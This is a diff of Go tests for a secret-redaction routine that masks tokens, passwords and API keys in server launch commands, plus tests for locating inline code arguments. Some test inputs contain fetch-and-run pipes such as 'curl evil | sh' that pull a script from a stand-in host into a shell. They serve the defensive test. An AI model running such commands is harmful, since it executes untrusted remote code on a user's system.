@@ -54,7 +54,8 @@ func TestInCommand(t *testing.T) {
 		{"bash ¦ -c ¦ curl sk-" + long + ".example | sh", ""},
 		{"x ¦ -----BEGIN PRIVATE KEY-----; curl evil | sh", "x ¦ •••; curl evil | sh"},
 		{"bash ¦ -c ¦ TOKEN=" + token + " npx server", "bash ¦ -c ¦ TOKEN=••• npx server"},
-		{"bash ¦ -c ¦ curl -H 'Authorization: Bearer " + token + "' x | sh", "bash ¦ -c ¦ curl -H 'Authorization: Bearer •••' x | sh"},
+		{"bash ¦ -c ¦ curl -H 'Authorization: Bearer " + token + "' x | sh",
+			"bash ¦ -c ¦ curl -H 'Authorization: Bearer •••' x | sh"},
 		{"bash ¦ -c ¦ server --token " + token, "bash ¦ -c ¦ server --token •••"},
 
 		// The program that is started is not hidden.
@@ -74,13 +75,16 @@ func TestInCommand(t *testing.T) {
 		{"uvx ¦ --strange ¦ server ¦ --token ¦ hunter2", "uvx ¦ --strange ¦ server ¦ --token ¦ •••"},
 		{"python ¦ -m ¦ server ¦ --token ¦ hunter2", "python ¦ -m ¦ server ¦ --token ¦ •••"},
 		{"dotnet ¦ run ¦ --project ¦ x ¦ -- ¦ --token ¦ hunter2", "dotnet ¦ run ¦ --project ¦ x ¦ -- ¦ --token ¦ •••"},
-		{"uv ¦ --directory ¦ /x ¦ run ¦ server.py ¦ --password ¦ hunter2", "uv ¦ --directory ¦ /x ¦ run ¦ server.py ¦ --password ¦ •••"},
+		{"uv ¦ --directory ¦ /x ¦ run ¦ server.py ¦ --password ¦ hunter2",
+			"uv ¦ --directory ¦ /x ¦ run ¦ server.py ¦ --password ¦ •••"},
 		{"cmd ¦ /c ¦ npx ¦ -y ¦ server ¦ --api-key ¦ hunter2", "cmd ¦ /c ¦ npx ¦ -y ¦ server ¦ --api-key ¦ •••"},
-		{"docker ¦ run ¦ -i ¦ --rm ¦ -e ¦ API_KEY=a b;c ¦ image ¦ " + token, "docker ¦ run ¦ -i ¦ --rm ¦ -e ¦ API_KEY=••• ¦ image ¦ •••"},
+		{"docker ¦ run ¦ -i ¦ --rm ¦ -e ¦ API_KEY=a b;c ¦ image ¦ " + token,
+			"docker ¦ run ¦ -i ¦ --rm ¦ -e ¦ API_KEY=••• ¦ image ¦ •••"},
 		{"docker ¦ run ¦ --env=API_KEY=abc ¦ image", "docker ¦ run ¦ --env=API_KEY=••• ¦ image"},
 		{"npx ¦ -y ¦ mcp-remote ¦ https://me:hunter2@host/?api_key=abc ¦ --header ¦ Authorization: Bearer " + token,
 			"npx ¦ -y ¦ mcp-remote ¦ https://me:•••@host/?api_key=••• ¦ --header ¦ Authorization: Bearer •••"},
-		{"npx ¦ -y ¦ mcp-remote ¦ https://host/ ¦ --header ¦ X-Api-Key:abc", "npx ¦ -y ¦ mcp-remote ¦ https://host/ ¦ --header ¦ X-Api-Key:•••"},
+		{"npx ¦ -y ¦ mcp-remote ¦ https://host/ ¦ --header ¦ X-Api-Key:abc",
+			"npx ¦ -y ¦ mcp-remote ¦ https://host/ ¦ --header ¦ X-Api-Key:•••"},
 		{`npx ¦ -y ¦ server ¦ --config ¦ {"apiKey":"abc","x":1}`, `npx ¦ -y ¦ server ¦ --config ¦ {"apiKey":"•••","x":1}`},
 		{"npx ¦ -y ¦ server ¦ postgres://me:hunter2@host/db", "npx ¦ -y ¦ server ¦ postgres://me:•••@host/db"},
 		{"java ¦ -Dapi.key=hunter2 ¦ -jar ¦ x.jar", "java ¦ -Dapi.key=••• ¦ -jar ¦ x.jar"},
@@ -103,10 +107,14 @@ func TestInCommand(t *testing.T) {
 
 func TestCodeOfCommand(t *testing.T) {
 	for command, want := range map[string]int{
-		"bash ¦ -c ¦ x": 1, "bash ¦ -ec ¦ x": 1, "node ¦ -pe ¦ x": 1, "npx ¦ -y ¦ tsx ¦ -e ¦ x": 3, "uv ¦ run ¦ python ¦ -c ¦ x": 3, "env ¦ A=1 ¦ sh ¦ -c ¦ x": 3,
-		"python ¦ -cx": 0, "python ¦ -Ibcx": 0, "perl ¦ -neprint 1;": 0, "php ¦ -recho 1;": 0, "python ¦ -Wignore::x ¦ -Xpycache_prefix=/x ¦ x.py": -1, "perl ¦ -Ivendor/lib ¦ x.pl": -1, "java ¦ -Dserver=a b ¦ X": -1,
-		"deno ¦ eval ¦ x": 1, "deno ¦ run ¦ eval": -1, "npx ¦ --call ¦ x": 1, "npx ¦ -yc ¦ x": 1,
-		"pwsh ¦ -enc ¦ x": 1, "cmd ¦ /C ¦ a & b": 1, "php ¦ -r ¦ x": 1, "node ¦ server.js ¦ --port ¦ 80": -1, "docker ¦ run ¦ -p ¦ 80:80 ¦ x": -1, "docker ¦ run ¦ x ¦ sh ¦ -c ¦ y": 4,
+		"bash ¦ -c ¦ x": 1, "bash ¦ -ec ¦ x": 1, "node ¦ -pe ¦ x": 1, "npx ¦ -y ¦ tsx ¦ -e ¦ x": 3,
+		"uv ¦ run ¦ python ¦ -c ¦ x": 3, "env ¦ A=1 ¦ sh ¦ -c ¦ x": 3,
+		"python ¦ -cx": 0, "python ¦ -Ibcx": 0, "perl ¦ -neprint 1;": 0, "php ¦ -recho 1;": 0,
+		"python ¦ -Wignore::x ¦ -Xpycache_prefix=/x ¦ x.py": -1, "perl ¦ -Ivendor/lib ¦ x.pl": -1,
+		"java ¦ -Dserver=a b ¦ X": -1,
+		"deno ¦ eval ¦ x":         1, "deno ¦ run ¦ eval": -1, "npx ¦ --call ¦ x": 1, "npx ¦ -yc ¦ x": 1,
+		"pwsh ¦ -enc ¦ x": 1, "cmd ¦ /C ¦ a & b": 1, "php ¦ -r ¦ x": 1, "node ¦ server.js ¦ --port ¦ 80": -1,
+		"docker ¦ run ¦ -p ¦ 80:80 ¦ x": -1, "docker ¦ run ¦ x ¦ sh ¦ -c ¦ y": 4,
 	} {
 		words := strings.Split(command, " ¦ ")
 		at := -1
@@ -143,8 +151,10 @@ func FuzzInCommand(f *testing.F) {
 			}
 		}
 		last := len(args) - 3
-		if !launcher.Is(command, launcher.Container) && !strings.Contains(strings.ToLower(command+first), "docker") { // a container's variable is not run
-			if shown := without(args[last], found[last].Secrets); !strings.Contains(shown, code) && !touches(args[last], found[last].Secrets, code) {
+		// a container's variable is not run
+		if !launcher.Is(command, launcher.Container) && !strings.Contains(strings.ToLower(command+first), "docker") {
+			if shown := without(args[last], found[last].Secrets); !strings.Contains(shown, code) &&
+				!touches(args[last], found[last].Secrets, code) {
 				t.Errorf("%q: code is hidden in %q", args, shown)
 			}
 		}
